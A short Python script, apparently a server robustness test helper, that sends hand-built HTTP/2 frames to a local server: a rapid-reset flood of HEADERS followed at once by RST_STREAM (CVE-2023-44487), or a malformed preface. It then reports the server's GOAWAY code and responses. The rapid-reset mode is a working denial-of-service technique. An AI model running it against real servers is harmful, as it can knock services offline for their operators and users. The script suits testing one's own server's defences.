#!/usr/bin/env python3
"""A misbehaving HTTP/2 client, frame by frame (what no well-kept client library sends).

    h2_abuse.py CA HOST PORT rapid-reset N   N streams, each HEADERS then RST_STREAM at once
                                            (CVE-2023-44487), without waiting for anything
    h2_abuse.py CA HOST PORT bad-preface     a connection that does not start with the preface

Prints what the server answered: `goaway CODE` for its GOAWAY (0 NO_ERROR, 1 PROTOCOL_ERROR,
11 ENHANCE_YOUR_CALM), `headers N` for the responses it began, `closed` when it closed.
"""
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block(host):
    # HPACK: :method GET, :scheme https, :path / from the static table; :authority literal.
    return b"\x82\x87\x84\x01" + bytes([len(host)]) + host.encode()


def main():
    ca, host, port, mode = sys.argv[1:5]
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", int(port)))
    s = ctx.wrap_socket(raw, server_hostname=host)
    if s.selected_alpn_protocol() != "h2":
        print("no h2")
        return 1
    if mode == "bad-preface":
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + b"\0" * 64)
    else:
        n = int(sys.argv[5])
        out = [PREFACE, frame(4, 0, 0)]  # SETTINGS (empty)
        for i in range(n):
            sid = 2 * i + 1
            out.append(frame(1, 0x5, sid, request_block(host)))  # HEADERS, END_STREAM|END_HEADERS
            out.append(frame(3, 0, sid, struct.pack(">I", 8)))  # RST_STREAM CANCEL
        try:
            s.sendall(b"".join(out))
        except OSError:
            pass  # the server may close before it read it all
    s.settimeout(5)
    buf = b""
    headers = 0
    goaway = None
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            chunk = s.recv(65536)
        except (socket.timeout, OSError):
            break
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            kind = buf[3]
            payload = buf[9 : 9 + length]
            buf = buf[9 + length :]
            if kind == 1:
                headers += 1
            elif kind == 7 and goaway is None:
                goaway = int.from_bytes(payload[4:8], "big")
    if goaway is not None:
        print(f"goaway {goaway}")
    print(f"headers {headers}")
    print("closed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
